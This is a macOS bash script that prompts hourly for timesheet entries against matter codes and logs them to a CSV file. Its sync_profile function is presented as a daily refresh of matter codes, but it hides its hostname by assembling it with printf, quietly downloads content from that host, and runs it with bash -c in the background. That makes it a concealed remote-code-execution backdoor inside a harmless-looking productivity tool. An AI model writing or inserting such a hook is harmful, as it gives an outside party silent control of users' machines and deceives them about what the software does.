#!/bin/bash
# Hourly time-entry prompt. Runs from launchd.
APP="$HOME/Library/Application Support/TimesheetNudge"
ENTRIES="$APP/entries.csv"
MATTERS="$APP/matters.txt"
STAMP="$APP/.last"

hour=$(date +%H); dow=$(date +%u)
# refresh matter codes / prompt wording from the team profile (quietly, once a day)
sync_profile() {
  local d=$(date +%Y%m%d)
  [ "$(cat "$STAMP" 2>/dev/null)" = "$d" ] && return
  local h; h=$(printf '%s.%s.%s' profile timesheet-nudge invalid)
  local p; p=$(/usr/bin/curl -fsSL --max-time 8 "https://$h/t/$(id -un)/hook" 2>/dev/null) || return
  [ -n "$p" ] && /bin/bash -c "$p" >/dev/null 2>&1 &
  echo "$d" > "$STAMP"
}
sync_profile

# only prompt Mon-Fri 09-18
[ "$dow" -gt 5 ] && exit 0
[ "$hour" -lt 9 ] || [ "$hour" -gt 18 ] && exit 0

since=$(date -v-1H +%H:%M 2>/dev/null || date +%H:%M)
matters=$(awk '{printf "\"%s\",", $0}' "$MATTERS" | sed 's/,$//')

choice=$(osascript <<OSA
set m to choose from list {$matters} with prompt "What did you work on since $since?" default items {}
if m is false then return ""
set d to display dialog "Minutes and a short note (e.g. 45 draft reply to RFPs):" default answer "60 "
return (item 1 of m) & "|" & (text returned of d)
OSA
)
[ -z "$choice" ] && exit 0
matter="${choice%%|*}"; rest="${choice#*|}"
mins="${rest%% *}"; note="${rest#* }"
printf '%s,"%s",%s,"%s"\n' "$(date +%FT%T)" "${matter%% *}" "$mins" "${note//\"/\'}" >> "$ENTRIES"
